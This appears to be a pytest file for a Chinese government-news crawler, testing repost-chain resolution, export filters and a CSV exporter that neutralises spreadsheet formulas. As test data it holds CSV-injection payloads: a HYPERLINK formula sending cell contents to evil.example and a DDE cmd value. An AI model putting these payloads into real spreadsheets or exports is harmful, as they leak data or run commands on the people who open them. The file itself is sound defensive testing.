"""``scrapy export``, its query and the safe CSV exporter (also as a crawl feed)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from scrapy.utils.misc import build_from_crawler, load_object
from scrapy.utils.project import get_project_settings
from scrapy.utils.test import get_crawler
from sqlalchemy import update
from sqlalchemy.orm import Session

from govnews.core.timezone import SHANGHAI
from govnews.crawl.exporters import SafeCsvItemExporter, neutralise
from govnews.items import Article
from govnews.link.linker import Linker
from govnews.store import Repository
from govnews.store.database import open_database, session_factory
from govnews.store.export import EXPORT_FIELDS, export_records
from govnews.store.models import Repost
from tests.conftest import ROOT

BOM = b"\xef\xbb\xbf"
GOV = "http://nyncj.zhangzhou.gov.cn/cms/html/zzsnyj/2022-08-18/2101205076.html"
REPOST = "http://www.nmgfzw.cn/shgz/20220818/24915.html"
REPOST_OF_REPOST = "http://www.jljzx.cn/zhangzhou/2022/0819/88001.shtml"
LATE_GOV = "http://nyncj.zhangzhou.gov.cn/cms/html/zzsnyj/2022-08-31/2101206001.html"
NEXT_DAY_GOV = "http://nyncj.zhangzhou.gov.cn/cms/html/zzsnyj/2022-09-01/2101206002.html"
WAITING = "http://www.nmgfzw.cn/shgz/20220901/24990.html"
FORMULAS = "http://www.nmgfzw.cn/fzdt/20220902/24991.html"
UNDATED = "http://www.nmgfzw.cn/fzdt/24992.html"
ALL = {GOV, REPOST, REPOST_OF_REPOST, LATE_GOV, NEXT_DAY_GOV, WAITING, FORMULAS, UNDATED}

TITLE = "漳州市开展秋季重大动物疫病集中免疫工作"
BODY = (
    "8月17日，市农业农村局召开全市秋季重大动物疫病集中免疫工作部署会，要求各县（区）"
    "9月底前完成猪、牛、羊、家禽的集中免疫，应免密度达到100%。\n\n"
    "会议强调，要加强疫苗冷链管理，做好免疫档案记录，确保免疫效果。"
)
EVIL_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


def shanghai(*parts: int) -> datetime:
    return datetime(*parts, tzinfo=SHANGHAI)  # type: ignore[misc]


def populate(session: Session) -> dict[str, int]:
    """The test articles, stored and linked as a crawl would; their ids by URL."""
    articles = [
        Article(
            url=GOV,
            site="nyncj.zhangzhou.gov.cn",
            kind="gov",
            title=TITLE,
            body_text=BODY,
            published_at=shanghai(2022, 8, 18, 10, 0),
            source_name="漳州市农业农村局",
            images=["http://nyncj.zhangzhou.gov.cn/upload/2022/0818/免疫.jpg"],
            attachments=[{"name": "免疫方案.doc", "url": "http://nyncj.zhangzhou.gov.cn/f/1.doc"}],
        ),
        Article(
            url=REPOST,
            site="www.nmgfzw.cn",
            kind="portal",
            title=TITLE,
            body_text=BODY,
            published_at=shanghai(2022, 8, 18, 15, 0),
            source_name="漳州市农业农村局",
            declared_original_url=GOV,
        ),
        Article(
            url=REPOST_OF_REPOST,
            site="www.jljzx.cn",
            kind="portal",
            title="漳州部署秋季动物疫病免疫",
            original_title=TITLE,
            body_text=BODY,
            published_at=shanghai(2022, 8, 19, 9, 0),
            source_name="农民工法治网",
            declared_original_url=REPOST,
        ),
        Article(
            url=LATE_GOV,
            site="nyncj.zhangzhou.gov.cn",
            kind="gov",
            title="市农业农村局召开8月份安全生产工作例会",
            body_text="8月31日晚，市农业农村局召开安全生产例会，通报全系统8月份安全生产检查情况。",
            published_at=shanghai(2022, 8, 31, 23, 30),  # 15:30 UTC
        ),
        Article(
            url=NEXT_DAY_GOV,
            site="nyncj.zhangzhou.gov.cn",
            kind="gov",
            title="漳州市农业农村局发布9月农事提醒",
            body_text="9月是晚稻管理关键期，各地要抓好晚稻田间管理，防范秋旱和病虫害。",
            published_at=shanghai(2022, 9, 1, 0, 10),  # still 31 August in UTC
        ),
        Article(
            url=WAITING,
            site="www.nmgfzw.cn",
            kind="portal",
            title="福建漳州：推进高标准农田建设",
            body_text="漳州市今年计划新建高标准农田12万亩，目前已完成招标。",
            published_at=shanghai(2022, 9, 1, 10, 0),
            declared_original_url="http://nyncj.zhangzhou.gov.cn/cms/html/zzsnyj/2022-09-01/9.html",
        ),
        Article(
            url=FORMULAS,
            site="www.nmgfzw.cn",
            kind="portal",
            title=EVIL_TITLE,
            body_text="-2+3 是一个公式，-3 是一个数字。",
            published_at=shanghai(2022, 9, 2, 8, 0),
            source_name="+86 591 1234",
            author="-",
            editor="@admin",
            category="-3",
        ),
        Article(
            url=UNDATED,
            site="www.nmgfzw.cn",
            kind="portal",
            title="农民工维权指南",
            body_text="农民工遇到欠薪问题，可拨打12333咨询。",
        ),
    ]
    ids: dict[str, int] = {}
    for item in articles:
        row = Repository(session).save_article(item).row
        Linker(session).link(row)
        session.commit()
        ids[item.url] = row.id
    return ids


def by_url(records: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {record["url"]: record for record in records}


# --- formula neutralisation and the CSV exporter ---------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("+86 591 1234", "'+86 591 1234"),
        ("--1", "'--1"),
        ("-", "-"),
        ("-3", "-3"),
        ("+86", "+86"),
        ("-1.5", "-1.5"),
        ("漳州市农业农村局", "漳州市农业农村局"),
        ("a=b, c+d", "a=b, c+d"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_neutralise(text: str, cell: str) -> None:
    assert neutralise(text) == cell


def export_csv(items: list[dict[str, Any]], **options: Any) -> bytes:
    file = io.BytesIO()
    exporter = SafeCsvItemExporter(file, **options)
    exporter.start_exporting()
    for item in items:
        exporter.export_item(item)
    exporter.finish_exporting()
    return file.getvalue()


def test_csv_cells_text_is_neutralised_numbers_lists_and_dates_are_not_text() -> None:
    item = {
        "title": "=cmd|'/c calc'!A1",
        "author": "-",
        "count": -5,
        "confidence": -0.5,
        "images": ["http://a.example/图.jpg", "=x"],
        "attachments": [{"name": "附件", "url": "http://a.example/1.doc"}],
        "published_at": shanghai(2022, 8, 18, 10, 0),
        "empty": None,
        "raw": b"@bytes",
    }
    data = export_csv([item])
    assert not data.startswith(BOM)
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert header == list(item)
    cells = dict(zip(header, row, strict=True))
    assert cells["title"] == "'=cmd|'/c calc'!A1"
    assert cells["author"] == "-"
    assert cells["count"] == "-5" and cells["confidence"] == "-0.5"
    assert json.loads(cells["images"]) == ["http://a.example/图.jpg", "=x"]  # a list, not text
    assert json.loads(cells["attachments"]) == [{"name": "附件", "url": "http://a.example/1.doc"}]
    assert "附件" in data.decode("utf-8")  # JSON cells keep Chinese readable
    assert cells["published_at"] == "2022-08-18T10:00:00+08:00"
    assert cells["empty"] == ""
    assert cells["raw"] == "'@bytes"


def test_csv_bom_is_written_only_when_asked() -> None:
    with_bom = export_csv([{"title": "漳州"}], bom=True)
    assert with_bom.startswith(BOM)
    assert with_bom[len(BOM) :].decode("utf-8").splitlines() == ["title", "漳州"]
    assert not export_csv([{"title": "漳州"}], bom=False).startswith(BOM)


def test_csv_bom_needs_utf8() -> None:
    with pytest.raises(ValueError, match="utf-8"):
        SafeCsvItemExporter(io.BytesIO(), bom=True, encoding="gb18030")


def test_csv_header_is_written_without_items_when_fields_are_given() -> None:
    assert export_csv([], fields_to_export=["url", "title"]).decode() == "url,title\r\n"
    assert export_csv([]) == b""  # fields unknown until the first item


def test_feed_exporters_use_the_safe_csv_exporter_with_the_bom_setting() -> None:
    settings = get_project_settings()
    assert load_object(settings.getdict("FEED_EXPORTERS")["csv"]) is SafeCsvItemExporter
    assert settings.getbool("GOVNEWS_CSV_BOM") is False
    crawler = get_crawler(settings_dict={"GOVNEWS_CSV_BOM": True})
    assert build_from_crawler(SafeCsvItemExporter, crawler, io.BytesIO()).bom is True
    chosen = build_from_crawler(SafeCsvItemExporter, crawler, io.BytesIO(), bom=False)
    assert chosen.bom is False  # the feed's item_export_kwargs win


# --- the query ------------------------------------------------------------------------


def test_records_resolve_reposts_to_the_first_original(session: Session) -> None:
    ids = populate(session)
    records = by_url(list(export_records(session)))
    assert set(records) == ALL
    assert all(list(record) == list(EXPORT_FIELDS) for record in records.values())

    # A repost of a repost: linked to the copy it took, exported with the first original.
    link = session.query(Repost).filter_by(repost_id=ids[REPOST_OF_REPOST]).one()
    assert link.original_id == ids[REPOST]
    for url in (REPOST, REPOST_OF_REPOST):
        record = records[url]
        assert record["original_url"] == GOV
        assert record["original_site"] == "nyncj.zhangzhou.gov.cn"
        assert record["original_title"] == TITLE
        assert record["original_published_at"] == shanghai(2022, 8, 18, 10, 0)
        assert record["link_method"] == "declared_url" and record["link_confidence"] == 1.0
    assert records[REPOST_OF_REPOST]["declared_original_url"] == REPOST
    assert records[REPOST_OF_REPOST]["declared_original_title"] == TITLE

    # Originals, unlinked articles and reposts still waiting for theirs have no original.
    for url in (GOV, WAITING, UNDATED):
        record = records[url]
        assert [record[name] for name in EXPORT_FIELDS[-6:]] == [None] * 6
    assert records[WAITING]["declared_original_url"].endswith("/9.html")
    assert records[GOV]["images"] == ["http://nyncj.zhangzhou.gov.cn/upload/2022/0818/免疫.jpg"]
    assert records[GOV]["attachments"][0]["name"] == "免疫方案.doc"


def test_chains_of_any_length_resolve_across_batches(session: Session) -> None:
    ids = populate(session)
    # Make the waiting repost a copy of the repost of a repost: a chain of three links.
    session.execute(
        update(Repost)
        .where(Repost.repost_id == ids[WAITING])
        .values(original_id=ids[REPOST_OF_REPOST], method="content", confidence=0.9)
    )
    session.commit()
    records = list(export_records(session, batch_size=1))
    assert records == list(export_records(session))
    waiting = by_url(records)[WAITING]
    assert waiting["original_url"] == GOV
    assert (waiting["link_method"], waiting["link_confidence"]) == ("content", 0.9)


def test_a_cycle_of_links_ends_where_it_would_repeat(session: Session) -> None:
    ids = populate(session)
    session.execute(
        update(Repost)
        .where(Repost.repost_id == ids[REPOST])
        .values(original_id=ids[REPOST_OF_REPOST])
    )
    session.commit()
    records = by_url(list(export_records(session)))
    assert records[REPOST]["original_url"] == REPOST_OF_REPOST
    assert records[REPOST_OF_REPOST]["original_url"] == REPOST


def test_records_are_in_publication_order_dates_in_shanghai(session: Session) -> None:
    populate(session)
    records = list(export_records(session))
    assert [record["url"] for record in records][-1] == UNDATED  # undated last
    dates = [record["published_at"] for record in records[:-1]]
    assert dates == sorted(dates)
    assert all(date.utcoffset().total_seconds() == 8 * 3600 for date in dates)
    assert records[0]["fetched_at"].tzinfo == UTC


def test_an_export_reads_one_snapshot_while_a_crawl_writes(tmp_path: Path) -> None:
    engine = open_database(f"sqlite:///{tmp_path / 'govnews.db'}")
    with session_factory(engine)() as session:
        populate(session)
    with session_factory(engine)() as reader, session_factory(engine)() as writer:
        records = export_records(reader, batch_size=2)
        first = next(records)
        late = Article(
            url="http://www.nmgfzw.cn/shgz/20221201/26001.html",
            site="www.nmgfzw.cn",
            kind="portal",
            title="漳州推进冬季农业生产",
            body_text="12月1日，漳州各地抓紧冬种冬管。",
            published_at=shanghai(2022, 12, 1),
        )
        Repository(writer).save_article(late)
        writer.commit()
        assert {first["url"], *(record["url"] for record in records)} == ALL
    engine.dispose()


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"since": shanghai(2022, 8, 31)}, {LATE_GOV, NEXT_DAY_GOV, WAITING, FORMULAS}),
        ({"before": shanghai(2022, 9, 1)}, {GOV, REPOST, REPOST_OF_REPOST, LATE_GOV}),
        ({"site": "www.nmgfzw.cn"}, {REPOST, WAITING, FORMULAS, UNDATED}),
        ({"kind": "gov"}, {GOV, LATE_GOV, NEXT_DAY_GOV}),
        ({"kind": "portal"}, ALL - {GOV, LATE_GOV, NEXT_DAY_GOV}),
        ({"reposts_only": True}, {REPOST, REPOST_OF_REPOST}),
        ({"reposts_only": True, "site": "www.jljzx.cn"}, {REPOST_OF_REPOST}),
        (
            {"since": shanghai(2022, 8, 19), "before": shanghai(2022, 9, 1)},
            {REPOST_OF_REPOST, LATE_GOV},
        ),
    ],
)
def test_filters(session: Session, filters: dict[str, Any], expected: set[str]) -> None:
    populate(session)
    assert {record["url"] for record in export_records(session, **filters)} == expected


# --- the command ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A database file holding the test articles."""
    url = f"sqlite:///{tmp_path_factory.mktemp('export') / 'govnews.db'}"
    engine = open_database(url)
    with session_factory(engine)() as session:
        populate(session)
    engine.dispose()
    return url


def scrapy_export(database: str, *args: str) -> subprocess.CompletedProcess[bytes]:
    command = [
        sys.executable,
        "-m",
        "scrapy",
        "export",
        "-s",
        f"GOVNEWS_DATABASE_URL={database}",
        *args,
    ]
    return subprocess.run(command, cwd=ROOT, capture_output=True, check=False, timeout=120)


def test_json_is_a_list_with_readable_chinese(database: str, tmp_path: Path) -> None:
    output = tmp_path / "out" / "articles.json"  # the directory is made
    done = scrapy_export(database, "--format", "json", "-o", str(output))
    assert done.returncode == 0, done.stderr
    assert done.stderr.decode().strip() == f"{len(ALL)} record(s) written to {output}"
    text = output.read_text(encoding="utf-8")
    assert TITLE in text and "\\u" not in text
    records = by_url(json.loads(text))
    assert set(records) == ALL
    assert records[REPOST_OF_REPOST]["original_url"] == GOV
    assert records[GOV]["published_at"] == "2022-08-18T10:00:00+08:00"
    assert records[FORMULAS]["title"] == EVIL_TITLE  # JSON is data: never altered


def test_jsonl_to_stdout_is_one_object_per_line(database: str) -> None:
    done = scrapy_export(database, "--format", "jsonl", "--reposts-only", "-o", "-")
    assert done.returncode == 0, done.stderr
    lines = done.stdout.decode("utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert [record["url"] for record in records] == [REPOST, REPOST_OF_REPOST]
    assert all(record["original_url"] == GOV for record in records)
    assert TITLE in lines[0]
    assert done.stderr.decode().strip() == "2 record(s) written to stdout"


def read_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_a_header_neutralised_formulas_and_no_bom_by_default(
    database: str, tmp_path: Path
) -> None:
    output = tmp_path / "articles.csv"  # the format comes from the extension
    done = scrapy_export(database, "-o", str(output))
    assert done.returncode == 0, done.stderr
    data = output.read_bytes()
    assert not data.startswith(BOM)
    assert data.decode("utf-8").splitlines()[0] == ",".join(EXPORT_FIELDS)
    rows = by_url(read_csv(data))
    assert set(rows) == ALL
    evil = rows[FORMULAS]
    assert evil["title"] == "'" + EVIL_TITLE
    assert evil["source_name"] == "'+86 591 1234" and evil["editor"] == "'@admin"
    assert evil["body_text"] == "'-2+3 是一个公式，-3 是一个数字。"
    assert (evil["author"], evil["category"]) == ("-", "-3")
    assert rows[REPOST]["link_confidence"] == "1.0"
    assert rows[REPOST_OF_REPOST]["original_url"] == GOV
    assert json.loads(rows[GOV]["attachments"])[0]["name"] == "免疫方案.doc"
    assert rows[UNDATED]["published_at"] == ""
    assert BODY.split("\n\n")[1] in rows[GOV]["body_text"]  # multi-line cells round-trip


def test_csv_bom_by_option_and_by_setting(database: str) -> None:
    for args in (["--bom"], ["-s", "GOVNEWS_CSV_BOM=True"]):
        done = scrapy_export(database, "--format", "csv", "--kind", "gov", *args, "-o", "-")
        assert done.returncode == 0, done.stderr
        assert done.stdout.startswith(BOM)
        assert {row["url"] for row in read_csv(done.stdout)} == {GOV, LATE_GOV, NEXT_DAY_GOV}


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        # Whole days in Asia/Shanghai: 00:10 on 1 September is out, though still 31 August in UTC.
        (["--until", "2022-08-31"], {GOV, REPOST, REPOST_OF_REPOST, LATE_GOV}),
        (["--since", "2022-09-01", "--until", "2022-09-01"], {NEXT_DAY_GOV, WAITING}),
        (["--since", "2022年8月19日", "--until", "2022-08-31 23:30"], {REPOST_OF_REPOST, LATE_GOV}),
        (["--site", "www.jljzx.cn"], {REPOST_OF_REPOST}),
        (["--kind", "portal", "--since", "2022-09-01"], {WAITING, FORMULAS}),
    ],
)
def test_command_filters(database: str, args: list[str], expected: set[str]) -> None:
    done = scrapy_export(database, "--format", "jsonl", *args, "-o", "-")
    assert done.returncode == 0, done.stderr
    assert {json.loads(line)["url"] for line in done.stdout.splitlines()} == expected


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "xml", "-o", "-"], "unknown format 'xml'"),
        (["-o", "articles.txt"], "cannot tell the format"),
        (["--format", "json"], "-o FILE"),
        (
            ["--format", "json", "--since", "last week", "-o", "-"],
            "--since 'last week' is not a date",
        ),
        (
            ["--format", "json", "--since", "2022-09-01", "--until", "2022-08-31", "-o", "-"],
            "is before",
        ),
        (["--format", "json", "--kind", "blog", "-o", "-"], "--kind 'blog'"),
        (["--format", "json", "--bom", "-o", "-"], "--bom is for --format csv"),
    ],
)
def test_usage_errors(database: str, args: list[str], message: str) -> None:
    done = scrapy_export(database, *args)
    assert done.returncode == 2
    assert message in done.stderr.decode()
    assert done.stdout == b""


def test_a_missing_database_is_an_error_not_created(tmp_path: Path) -> None:
    missing = tmp_path / "none" / "govnews.db"
    done = scrapy_export(f"sqlite:///{missing}", "--format", "json", "-o", "-")
    assert done.returncode == 1
    assert f"no database at {missing}" in done.stderr.decode()
    assert done.stdout == b"" and not missing.parent.exists()


def test_a_file_that_is_no_database_is_an_error(tmp_path: Path) -> None:
    bogus = tmp_path / "govnews.db"
    bogus.write_text("not a database\n" * 100)
    done = scrapy_export(f"sqlite:///{bogus}", "--format", "json", "-o", "-")
    assert done.returncode == 1
    assert "cannot open the database" in done.stderr.decode()


# --- feeds during a crawl -------------------------------------------------------------


def test_crawl_feed_per_run_csv_is_safe(
    crawl: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path
) -> None:
    feeds = tmp_path / "feeds"
    crawl("zhangzhou", "-O", f"{feeds}/%(name)s-%(time)s.csv", "-s", "GOVNEWS_CSV_BOM=True")
    (feed,) = feeds.iterdir()
    assert feed.name.startswith("zhangzhou-") and feed.suffix == ".csv"
    data = feed.read_bytes()
    assert data.startswith(BOM)
    rows = read_csv(data)
    assert len(rows) >= 10
    assert all(row["kind"] == "gov" for row in rows)
    assert all(row["images"].startswith("[") for row in rows)  # JSON lists, not a,b joins
    assert all(row["published_at"].endswith("+08:00") for row in rows)
